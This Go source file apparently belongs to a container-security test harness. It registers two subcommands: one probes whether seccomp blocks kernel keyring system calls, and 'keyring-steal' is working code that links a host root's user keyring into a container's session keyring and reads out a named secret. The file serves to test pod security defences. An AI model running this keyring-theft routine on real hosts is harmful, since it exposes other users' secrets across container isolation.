package main

import (
	"errors"
	"fmt"

	"golang.org/x/sys/unix"
)

func init() {
	register("keyring-syscalls", keyringSyscalls)
	register("keyring-steal", keyringSteal)
}

// errnoName words the outcome of a system call for the test to match:
// "ok" or the errno's symbolic name ("EPERM").
func errnoName(err error) string {
	if err == nil {
		return "ok"
	}
	var errno unix.Errno
	if errors.As(err, &errno) {
		if n := unix.ErrnoName(errno); n != "" {
			return n
		}
		return fmt.Sprintf("errno %d", int(errno))
	}
	return err.Error()
}

// keyringSyscalls calls each kernel keyring system call once, harmlessly,
// and prints "<syscall>: <outcome>" for each. It succeeds whatever the
// outcomes: the test reads them (EPERM under RuntimeDefault, anything
// else where seccomp lets the call reach the kernel).
//
//	attacker keyring-syscalls
func keyringSyscalls(args []string) error {
	if len(args) != 0 {
		return errors.New("usage: keyring-syscalls")
	}
	_, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	fmt.Printf("keyctl: %s\n", errnoName(err))
	// Into the process keyring, which dies with this process.
	_, err = unix.AddKey("user", "podsec-attack-probe", []byte("probe"), unix.KEY_SPEC_PROCESS_KEYRING)
	fmt.Printf("add_key: %s\n", errnoName(err))
	_, err = unix.RequestKey("user", "podsec-attack-absent", "", 0)
	fmt.Printf("request_key: %s\n", errnoName(err))
	return nil
}

// keyringSteal is the attack: kernel keyrings are not namespaced, so a
// container whose uid is the node's root shares root's user keyring. It
// links that keyring into its own session keyring, which makes its keys
// possessed, finds the key DESCRIPTION, prints its payload as
// "stolen: <payload>", and unlinks the keyring again. It fails at the
// first system call refused, naming it and the errno.
//
//	attacker keyring-steal DESCRIPTION
func keyringSteal(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: keyring-steal DESCRIPTION")
	}
	user, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_USER_KEYRING, false)
	if err != nil {
		return fmt.Errorf("keyctl(KEYCTL_GET_KEYRING_ID, user keyring): %s", errnoName(err))
	}
	if _, err := unix.KeyctlInt(unix.KEYCTL_LINK, user, unix.KEY_SPEC_SESSION_KEYRING, 0, 0); err != nil {
		return fmt.Errorf("keyctl(KEYCTL_LINK, user keyring %d, session keyring): %s", user, errnoName(err))
	}
	defer unix.KeyctlInt(unix.KEYCTL_UNLINK, user, unix.KEY_SPEC_SESSION_KEYRING, 0, 0)
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", args[0], 0)
	if err != nil {
		return fmt.Errorf("keyctl(KEYCTL_SEARCH, %q): %s", args[0], errnoName(err))
	}
	buf := make([]byte, 4096)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
	if err != nil {
		return fmt.Errorf("keyctl(KEYCTL_READ, key %d): %s", id, errnoName(err))
	}
	fmt.Printf("stolen: %s\n", buf[:min(n, len(buf))])
	return nil
}
